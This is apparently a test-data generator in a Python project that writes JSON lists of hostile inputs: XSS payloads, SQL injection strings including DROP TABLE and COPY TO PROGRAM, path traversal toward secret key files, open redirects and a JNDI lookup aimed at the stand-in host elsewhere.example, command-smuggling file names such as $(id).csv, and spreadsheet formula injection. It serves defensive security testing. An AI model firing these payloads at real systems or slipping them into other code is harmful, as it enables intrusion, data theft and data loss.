"""Hostile inputs of our own making. `python -m tests.data.hostile.make` writes the lists of texts beside this script.

Each kind is a few ways in times a few ways out of where the text will stand. JSON with escapes, so that what nobody
sees (a NUL, a reversed direction) is seen in the file. Files are made in `files.py`, when a test asks for them.
"""

import json
import unicodedata
from pathlib import Path

HERE = Path(__file__).parent
EVIL = "elsewhere.example"
HOST = "testserver"
"""Whom the test client believes to talk to: an address that only begins with it leads away."""


def naughty():
    """Answers that are no answers, and texts that some program on the way would take for its own language."""
    words = ["null", "None", "nil", "undefined", "NaN", "-NaN", "Infinity", "true", "FALSE", "N/A", "[]", "{}", "无"]
    numbers = ["-0", "0x1F", "0b11", "1e309", "1_000", "1,000.5", "１２３", "٤٥٦", "½", "12٫5", "+1", ".5", "5.", "007"]
    dates = ["2026-02-30", "2026年13月1日", "00000000", "99991231", "2026-01-01T25:61", "昨天", "1900-02-29"]
    templates = ["{{ request.user }}", "{% debug %}", "{# x #}", "${9*9}", "#{9*9}", "<%= 9*9 %>", "{0.__class__}"]
    formats = ["%s%s%s%n", "%(password)s", "%d 100%", "\\u0000", "\\x41\\", "$(id)", "`id`", "; id #", "| id", "a&&id"]
    others = [f"${{jndi:ldap://{EVIL}/a}}", "*)(uid=*", "' or name()='x", "!!python/none", "&amp;&#0;&bogus;", "//*"]
    others += ['{"a":', "[[[[[[[[", "a: b\n- c", "x\r\nSet-Cookie: a=b", f"From: a\nBcc: b@{EVIL}", "<!DOCTYPE x>"]
    names = [
        "O'Neil-Łuczak",
        "Ng",
        "曾·阿依古丽",
        "王",
        "李　秀　兰",
        "欧阳" * 40,
        "𠮷野家",
        "㐂",
        "null王",
        'Dr. "Bob"',
    ]
    spaces = ["\t", "\u3000", "\u00a0\u00a0", " a ", "\n\n", "a\tb", "\u2028", "\v\f"]
    return words + numbers + dates + templates + formats + others + names + spaces


def xss():
    """What would run, after what would end the place where it is shown."""
    acts = ["<script>steal(7)</script>", "<img src=q onerror=steal(7)>", "<svg/onload=steal(7)>"]
    acts += ["<details open ontoggle=steal(7)>", "<iframe srcdoc='<b>'>", "<a href=javascript:steal(7)>x</a>"]
    acts += [f"<form action=//{EVIL}><input name=q>"]
    ways_out = ["", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "]]>"]
    events = ("onfocus", "onmouseover", "onclick")
    inside = [f"{mark} {event}=steal(7) x={mark}" for mark in "\"'" for event in events]
    inside += ["';steal(7)//", '";steal(7)//', "`-steal(7)-`", f"</style><style>@import'//{EVIL}'"]
    inside += ["javascript:steal('7')", "data:text/html,<b>7</b>", "java\tscript:steal('7')", "&lt;script&gt;'7'"]
    inside += ["<scr<script>ipt>steal(7)", f"<SCRIPT SRC=//{EVIL}/>", "＜script＞'steal'", "<img src='x\0' onerror=y>"]
    return [way + act for act in acts for way in ways_out] + inside


def sqli():
    marks = ["'", '"', ")", "7"]
    tests = [
        "7=7--",
        "'q'='q",
        "pg_sleep(3) IS NULL;--",
        "EXISTS(SELECT 7)#",
        "version() LIKE 'P%'\0",
        "ascii('q')>3/*",
    ]
    found = [f"{mark} OR {test}" for mark in marks for test in tests]
    found += [
        "'; DROP TABLE core_area;--",
        "7; SELECT pg_sleep(3)",
        "' UNION SELECT current_user,7--",
        "$q$;$q$",
        "\\';",
    ]
    found += ["'||(SELECT 7)||'", "1e0UNION SELECT 7", "' AND 7=CAST(version() AS int)--", "E'\\x27'", "%' ESCAPE '%"]
    return [*found, "' /**/or/**/ 7=7", "(SELECT(7))", "';COPY x TO PROGRAM 'id'--", "{'q': 7}", "q') ON CONFLICT--"]


def traversal():
    steps = ["../", "..\\", "..%2f", "%2e%2e/", "..%5c", "..%252f", "..;/", ".../", "%c0%ae%c0%ae/", "．．／"]
    goals = {1: "etc/hostname", 3: "manage.py", 7: ".data/secrets/id_key", 12: "windows/win.ini"}
    found = [step * deep + goal for step in steps for deep, goal in goals.items()]
    found += ["/proc/self/environ", "file:///etc/hostname", f"\\\\{EVIL}\\share", "C:\\pagefile.sys", "~root/.profile"]
    return [*found, "media/..", "static/../.data/", "a/./b/../../c", "..%00/", "photo.jpg/../../x"]


def redirect():
    """Where a browser would leave for, each written as if it stayed."""
    ways = ["//", "///", "/\\", "\\\\", "\\/", "/\t/", "//\n", "https:", "https:/", "https:\\\\", "http:///", "hTTp://"]
    found = [way + EVIL for way in [*ways, "%2f%2f", "\0//", " //", "/%09/", "/.", "ftp://", "mailto:x@"]]
    found += [f"//{HOST}@{EVIL}", f"https://{HOST}.{EVIL}/", f"https://{EVIL}/{HOST}", f"https://{EVIL}#{HOST}"]
    found += [f"https://{HOST}:x@{EVIL}", f"//{EVIL}?{HOST}", f"//{EVIL}\\@{HOST}", f"https://{EVIL}%00.{HOST}"]
    found += ["javascript:steal(7)", "JaVa\tScRiPt:steal(7)", "data:text/html,7", "vbscript:x", f"//0x7f000001/{EVIL}"]
    found += [f"//{EVIL}:443/", f"//{EVIL}。", "//[::ffff:1.2.3.4]/", "//１.２.３.４", f"https://{HOST}%40{EVIL}"]
    return [*found, f"/\r\nLocation: //{EVIL}"]


def upload_names():
    ends = [
        "roster.xlsx.exe",
        "roster.exe.xlsx",
        "roster.xlsx ",
        "roster.xlsx.",
        "roster.xlsx;.php",
        "roster.xlsx\0.php",
    ]
    ends += [
        "roster",
        ".xlsx",
        "..xlsx",
        ".env",
        "web.config",
        "roster.XLSX",
        "roster.xlsx::$DATA",
        "ro\u202excslx.exe",
    ]
    devices = [
        "CON.xlsx",
        "nul.csv",
        "com1.",
        "LPT9.xls",
        "AUX ",
        "desktop.ini",
        "~$roster.xlsx",
        "-rf.csv",
        "--help.csv",
    ]
    signs = ["a<b>.xlsx", 'a"b.xlsx', "a|b?.xlsx", "a*.csv", "a:b.csv", "a\tb.csv", "a\nb.csv", "a\\b.csv", "a/b.csv"]
    long = ["名" * 120 + ".xlsx", "n" * 300 + ".csv", ".".join("ab" * 60), "😀.xlsx", "e\u0301.csv", "𠮷.xls", "　.csv"]
    acts = ["%2e%2e.csv", "$(id).csv", "`id`.csv", "a;id.csv", "' OR 7=7.csv", "<img src=q onerror=x>.csv"]
    return ends + devices + signs + long + acts


def unicode():
    """What is written with one sign and looks like another, like none, or like the wrong way round."""
    turned = [f"王{sign}建华" for sign in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"]
    unseen = [f"李{sign}兰" for sign in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u115f\u3164\u2800\ufe0f"]
    alike = ["ВАСЯ", "раура", "ℌ𝔢𝔩𝔩", "①②③", "㈱㎏", "ﬁﬂ", "İıſß", "ǅ", "Ａｂ１", "·•・‧", "〇○零0O"]
    built = [unicodedata.normalize("NFD", "Ǟçé가각"), "e" + "\u0301\u0302\u0323" * 40, "👩‍👩‍👧‍👦", "🇨🇳🇨", "1️⃣", "👍🏽"]
    edges = ["a\ufffd", "b\ufffe", "c\uffff", "\U0010ffff", "\ue000", "\U000f0000", "\U000e0041", "\x7f", "\x80\x85"]
    edges += ["\x01\x02", "\x1b]0;x\x07", "a\0b\0"]
    scripts = ["𠀀𪚥𰻞", "㐀䶿", "ᠮᠣᠩ", "བོད", "ئۇيغۇر", "שָׁלוֹם", "ก็็็็็็"]
    return turned + unseen + alike + built + edges + scripts


def csv_formula():
    """What a spreadsheet would reckon, after each sign that lets it begin."""
    signs = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠"]
    works = ["7*7", f'HYPERLINK("http://{EVIL}","看")', "cmd|'/c ver'!Z9"]
    return [sign + work for sign in signs for work in works] + [
        '"=7*7',
        "'=7*7",
        " =7*7",
        ";=7*7",
        "\ufeff=7*7",
        "=\t7",
    ]


KINDS = {made.__name__: made for made in (naughty, xss, sqli, traversal, redirect, upload_names, unicode, csv_formula)}


def written(kind):
    """The list of this kind as it stands in its file."""
    return json.dumps(KINDS[kind](), indent=0) + "\n"


if __name__ == "__main__":
    for kind in KINDS:
        (HERE / f"{kind}.json").write_text(written(kind), encoding="ascii")
